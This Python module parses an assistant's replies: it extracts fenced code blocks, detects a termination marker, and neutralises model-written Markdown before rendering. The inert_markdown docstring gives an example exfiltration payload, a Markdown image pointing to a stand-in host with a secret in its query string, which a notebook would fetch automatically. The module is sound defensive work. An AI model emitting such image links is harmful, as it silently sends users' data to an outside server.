"""Finding code in an assistant's reply, and telling whether the reply signs off.

Pure text functions: no IPython, no network. The conversation loop uses them to
turn a reply into the blocks it proposes to run.
"""

from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field

PYTHON = "python"
SHELL = "sh"

_ALIASES = {
    "": PYTHON,
    "python": PYTHON,
    "py": PYTHON,
    "python3": PYTHON,
    "ipython": PYTHON,
    "ipython3": PYTHON,
    "sh": SHELL,
    "bash": SHELL,
    "shell": SHELL,
    "console": SHELL,
}

# An opening fence: up to 3 spaces of indent, 3+ backticks or tildes, an info
# string. The closing fence must use the same character and be at least as long.
_OPEN = re.compile(r"^(?P<indent> {0,3})(?P<fence>`{3,}|~{3,})[ \t]*(?P<info>[^\n`]*?)[ \t]*$")


@dataclass(frozen=True)
class CodeBlock:
    """One fenced block: its normalised language ("python", "sh" or the tag as written)."""

    language: str
    code: str
    # Set when the block came from a native tool call; not part of equality so an
    # edit is judged by language and code alone.
    tool_call_id: str | None = field(default=None, compare=False)

    @property
    def runnable(self) -> bool:
        return self.language in (PYTHON, SHELL)


def normalize_language(info: str) -> str:
    """Map a fence's info string to "python", "sh", or the lower-cased tag itself."""
    tag = info.strip().split(maxsplit=1)[0].lower() if info.strip() else ""
    tag = tag.lstrip("{.").rstrip("}")  # ```{python} and ```.py styles
    return _ALIASES.get(tag, tag)


def extract_code_blocks(text: str) -> list[CodeBlock]:
    """Return the fenced code blocks of a Markdown reply, in order.

    Handles ``` and ~~~ fences, CRLF line ends, trailing spaces after the tag,
    and untagged blocks (taken as python). An unclosed final block is still
    returned: models cut off by a token limit often forget the closing fence.
    """
    return [block for block, _, _ in _fenced(text) if block is not None]


def strip_code_blocks(text: str) -> str:
    """The reply's prose: the text with every fenced block removed (shown apart)."""
    prose = "\n".join(line for line, code in _marked_lines(text) if not code)
    return re.sub(r"\n{3,}", "\n\n", prose).strip()


def _marked_lines(text: str) -> list[tuple[str, bool]]:
    """Each line of the text, with True when it belongs to a fenced block."""
    lines = _lines(text)
    code = [False] * len(lines)
    for _, start, end in _fenced(text):
        code[start:end] = [True] * (end - start)
    return list(zip(lines, code, strict=True))


# Within one paragraph (no blank line): a code span (not after a backslash) or maths.
_PARAGRAPH = r"(?:(?!\n[ \t]*\n).)"
_SPANS = re.compile(
    rf"(?P<code>(?<![`\\])(?P<ticks>`+)(?!`){_PARAGRAPH}+?(?<!`)(?P=ticks)(?!`))"
    rf"|(?P<math>(?<!\\)\$\${_PARAGRAPH}+?\$\$|(?<![\\$])\$[^$\n]+?(?<!\\)\$"
    rf"|\\\({_PARAGRAPH}+?\\\)|\\\[{_PARAGRAPH}+?\\\])",
    re.DOTALL,
)


def inert_markdown(text: str) -> str:
    """Model-written Markdown made safe to render: nothing in it loads or runs by itself.

    A reply (or an output it quotes) could carry ``![](https://host/?q=<secret>)`` or
    raw HTML such as ``<img src=...>``: a notebook renders those on display, which
    would send data to a stranger's server without a click. So every ``![`` becomes
    ``[image: `` (an image turns into a link, or plain text) and ``<`` is escaped
    (HTML shows as text): as ``&lt;`` in prose, as ``\\lt`` in maths (which a notebook
    hands to MathJax unescaped). Fenced blocks and code spans are left as they are:
    they render as code. Anything this misreads as prose is escaped too, which costs
    looks, never safety (a 4-space indented code block shows ``&lt;``).
    """
    parts = []
    for code, group in itertools.groupby(_marked_lines(text), key=lambda item: item[1]):
        lines = "\n".join(line for line, _ in group)
        parts.append(lines if code else _inert_prose(lines))
    return "\n".join(parts)


def _inert_prose(text: str) -> str:
    pieces, last = [], 0
    for span in _SPANS.finditer(text):
        pieces.append(_inert_text(text[last : span.start()]))
        if span["code"]:
            pieces.append(span["code"])
        else:
            pieces.append(span["math"].replace("![", "[image: ").replace("<", "\\lt "))
        last = span.end()
    pieces.append(_inert_text(text[last:]))
    return "".join(pieces)


def _inert_text(text: str) -> str:
    return text.replace("![", "[image: ").replace("<", "&lt;")


def _lines(text: str) -> list[str]:
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def _fenced(text: str) -> list[tuple[CodeBlock | None, int, int]]:
    """Each fenced block with its line span [start, end); None for an empty block."""
    lines = _lines(text)
    found: list[tuple[CodeBlock | None, int, int]] = []
    i = 0
    while i < len(lines):
        match = _OPEN.match(lines[i])
        if not match:
            i += 1
            continue
        start = i
        fence, indent = match["fence"], len(match["indent"])
        closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
        body: list[str] = []
        i += 1
        while i < len(lines) and not closing.match(lines[i]):
            line = lines[i]
            # Strip the opening fence's indent from the body, as CommonMark does.
            body.append(line[min(indent, len(line) - len(line.lstrip(" "))) :])
            i += 1
        i += 1  # skip the closing fence
        code = "\n".join(body).strip("\n")
        block = CodeBlock(normalize_language(match["info"]), code) if code.strip() else None
        found.append((block, start, min(i, len(lines))))
    return found


def is_termination(text: str, marker: str = "TERMINATE") -> bool:
    """True when the reply ends with the marker (trailing punctuation, space and fences aside)."""
    if not marker:
        return False
    tail = text.rstrip().rstrip("`~*_.!\"' \t\n\r")
    return tail.endswith(marker)
